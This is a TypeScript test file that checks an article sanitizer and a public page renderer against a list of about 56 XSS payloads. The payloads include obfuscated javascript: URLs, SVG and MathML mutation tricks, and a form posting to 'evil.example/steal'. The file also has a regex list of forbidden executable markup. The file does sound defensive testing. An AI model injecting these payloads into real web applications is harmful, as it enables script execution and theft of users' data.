// The article sanitizer against XSS vectors (script, event handlers, javascript: URLs plain, encoded and
// obfuscated, SVG, style/expression, iframe/object/embed, meta refresh, form actions, mixed case), what Word
// pastes (kept), and the public page a hostile body is rendered into (nothing executable there either).
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { plainText, sanitizeRichText } from '../src/platform/sanitize.js';
import { html, trusted, escapeHtml } from '../src/public/html.js';
import { createTestContext, type TestContext } from './context.js';

export const XSS_VECTORS: string[] = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<ScRiPt>alert(1)</sCrIpT>',
  '<scr<script>ipt>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<img src="/site/files/1" onerror="alert(1)">',
  '<IMG SRC="javascript:alert(1)">',
  '<img src="https://ok.example/a.png" ONLOAD=alert(1)>',
  '<img src=" javascript:alert(1)">',
  '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
  '<img src="data:text/html,<script>alert(1)</script>">',
  '<img src=http://insecure.example/a.png>',
  '<img src="//evil.example/a.png">',
  '<img """><script>alert(1)</script>">',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href=" javascript:alert(1)">x</a>',
  '<a href="jav&#x09;ascript:alert(1)">x</a>',
  '<a href="jav&#x0A;ascript:alert(1)">x</a>',
  '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
  '<a href="&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;alert(1)">x</a>',
  '<a href="javascript&colon;alert(1)">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
  '<a href="/site/a/1" onclick="alert(1)" onmouseover="alert(2)">x</a>',
  '<svg onload=alert(1)><circle r="1"/></svg>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
  '<style>body{background:url("javascript:alert(1)")}</style>',
  '<p style="width:expression(alert(1))">x</p>',
  '<div style="background-image:url(javascript:alert(1))">x</div>',
  '<p STYLE="behavior:url(x.htc)">x</p>',
  '<iframe src="https://evil.example"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="javascript:alert(1)"></object>',
  '<embed src="https://evil.example/x.swf">',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<base href="https://evil.example/">',
  '<link rel="stylesheet" href="https://evil.example/x.css">',
  '<form action="https://evil.example/steal"><input name="p"><button formaction="javascript:alert(1)">go</button></form>',
  '<body onload=alert(1)>',
  '<details open ontoggle=alert(1)>',
  '<video><source onerror="alert(1)"></video>',
  '<audio src=x onerror=alert(1)>',
  '<table background="javascript:alert(1)"><tr><td>x</td></tr></table>',
  '<td onmouseover=alert(1)>x</td>',
  '<p onclick=alert(1)>x</p>',
  '<template><script>alert(1)</script></template>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<!--<img src="--><img src=x onerror=alert(1)//">',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<xss onafterscriptexecute=alert(1)><script>1</script>',
  '<a href="#" id="x" name="y" class="z" target="_top">x</a>',
  '<img src="/site/files/1" srcset="javascript:alert(1)">',
  '<isindex action="javascript:alert(1)" type=image>',
];

/** What must never be in stored or rendered HTML. */
export const EXECUTABLE = [/<script/i, /<\/?(iframe|object|embed|svg|math|style|meta|base|link|form|input|button|template|video|audio|source|body)\b/i,
  /\son[a-z]+\s*=/i, /javascript:/i, /vbscript:/i, /data:/i, /style\s*=/i, /expression\(/i, /srcdoc/i, /formaction/i, /xlink:href/i, /srcset/i];

describe('sanitizeRichText', () => {
  for (const v of XSS_VECTORS) {
    it(`neutralizes ${v.slice(0, 60)}`, () => {
      const out = sanitizeRichText(v);
      for (const bad of EXECUTABLE) expect(out, `${bad} in ${out}`).not.toMatch(bad);
      // Sanitizing again changes nothing: the stored form is a fixed point.
      expect(sanitizeRichText(out)).toBe(out);
    });
  }

  it('keeps what Word pastes: headings, lists, tables, images, emphasis, links (with rel noopener)', () => {
    const word = `<html xmlns:o="urn:schemas-microsoft-com:office:office"><head><meta name=Generator content="Microsoft Word 15"><style>p.MsoNormal{margin:0}</style></head>
<body lang=ZH-CN style='tab-interval:21.0pt'><!--[if gte mso 9]><xml><o:OfficeDocumentSettings></o:OfficeDocumentSettings></xml><![endif]-->
<h1 class=MsoTitle style='mso-outline-level:1'>关于开展主题党日活动的通知</h1>
<h2>一、活动时间</h2><p class=MsoNormal style='text-indent:2em'><b>2026年3月5日</b>上午<span lang=EN-US>9:00</span><o:p></o:p></p>
<ol><li>学习党章</li><li>重温入党誓词</li></ol><ul><li><i>签到</i></li></ul>
<table class=MsoTableGrid border=1 style='border-collapse:collapse'><tr><td width=100 colspan=2 style='width:75pt'>支部</td></tr><tr><td>一支部</td><td rowspan="1">二支部</td></tr></table>
<p><img width=320 height=240 src="/api/article-files/12" alt="活动照片" v:shapes="图片_1"><img src="https://www.12371.cn/logo.png"></p>
<p><a href="https://www.12371.cn/" target="_blank">共产党员网</a></p></body></html>`;
    const out = sanitizeRichText(word);
    expect(out).toContain('<h1>关于开展主题党日活动的通知</h1>');
    expect(out).toContain('<h2>一、活动时间</h2>');
    expect(out).toContain('<strong>2026年3月5日</strong>');
    expect(out).toContain('<ol><li>学习党章</li><li>重温入党誓词</li></ol>');
    expect(out).toContain('<em>签到</em>');
    expect(out).toMatch(/<table><tr><td colspan="2">支部<\/td><\/tr>/);
    expect(out).toContain('<img src="/site/files/12" alt="活动照片" width="320" height="240" />');
    expect(out).toContain('<img src="https://www.12371.cn/logo.png" />');
    expect(out).toContain('<a rel="noopener noreferrer" href="https://www.12371.cn/" target="_blank">共产党员网</a>');
    for (const bad of [/class=/, /style=/, /mso-/, /<o:p/, /<xml/, /Generator/, /v:shapes/, /lang=/]) expect(out).not.toMatch(bad);
  });

  it('images load only from our own files or https; other sources drop the image', () => {
    expect(sanitizeRichText('<img src="/site/files/7">')).toBe('<img src="/site/files/7" />');
    expect(sanitizeRichText('<img src="/api/article-files/7">')).toBe('<img src="/site/files/7" />');
    for (const src of ['/site/files/7/../../api/x', '/api/evidence/1/file', 'http://a.example/x.png', 'ftp://a/x.png', '../x.png', 'x.png', 'blob:https://a/1']) {
      expect(sanitizeRichText(`<p>a<img src="${src}"></p>`)).toBe('<p>a</p>');
    }
  });

  it('plain text of a body for summaries', () => {
    expect(plainText('<h1>标题</h1><p>第一段&nbsp;<b>加粗</b></p><script>x()</script>')).toBe('标题第一段 加粗');
  });
});

describe('html`` template', () => {
  it('escapes what is interpolated unless it is marked trusted', () => {
    const name = '<img src=x onerror=alert(1)>"\'&';
    expect(html`<p title="${name}">${name}</p>`.value).toBe('<p title="&lt;img src=x onerror=alert(1)&gt;&quot;&#39;&amp;">&lt;img src=x onerror=alert(1)&gt;&quot;&#39;&amp;</p>');
    expect(html`<div>${trusted('<b>ok</b>')}${[html`<i>${'<'}</i>`, null, false, undefined, 0]}</div>`.value).toBe('<div><b>ok</b><i>&lt;</i>0</div>');
    expect(escapeHtml('a\u0000b\u0008c')).toBe('abc');
  });
});

describe('a hostile body rendered into the public page', () => {
  let ctx: TestContext;
  beforeAll(async () => { ctx = await createTestContext(); });
  afterAll(async () => ctx?.close());

  it('carries no executable content and the page carries the CSP', async () => {
    const wc = await ctx.build.org({ parentId: null, name: '甲市直属机关工委' });
    const s = ctx.services.content;
    const sys = ctx.build.system;
    await s.saveColumn(sys, wc.id, { slug: 'portal', title: '机关党建', intro: '<script>alert("intro")</script>', version: 0 });
    const col = (await s.columnOf(sys, wc.id)).column!;
    const a = await s.create(sys, col.id, { title: '<script>alert("t")</script>标题', summary: '"><img src=x onerror=alert(1)>', body: XSS_VECTORS.join('\n<p>段落</p>\n'), author: '<b>作者</b>' });
    const p = await s.submit(sys, a.id, a.version);
    await s.review(sys, p.id, { version: p.version, decision: 'publish' });
    for (const url of [`/site/a/${a.id}`, '/site/c/portal', '/site']) {
      const r = await ctx.client().get(url);
      expect(r.statusCode, url).toBe(200);
      expect(String(r.headers['content-security-policy'])).toContain("script-src 'self'");
      // The markup itself (escaped text has no '<'): no executable tag, attribute or URL in any tag.
      const main = r.body.slice(r.body.indexOf('<main>'), r.body.indexOf('</main>'));
      const tags = [...main.matchAll(/<\/?[a-zA-Z][^>]*>/g)].map((m) => m[0]).join('\n');
      for (const bad of EXECUTABLE) expect(tags, `${bad} on ${url}`).not.toMatch(bad);
      expect(r.body).not.toMatch(/<script/i);
      // The page's own head has only our meta and link tags.
      expect([...r.body.matchAll(/<(meta|link)\b[^>]*>/gi)].map((m) => m[0]).every((t) => /name="(viewport|description)"|charset|rel="(canonical|stylesheet|alternate)"/.test(t))).toBe(true);
    }
    const page = (await ctx.client().get(`/site/a/${a.id}`)).body;
    expect(page).toContain('&lt;script&gt;alert(&quot;t&quot;)&lt;/script&gt;标题');
    expect(page).toContain('&lt;b&gt;作者&lt;/b&gt;');
  });
});
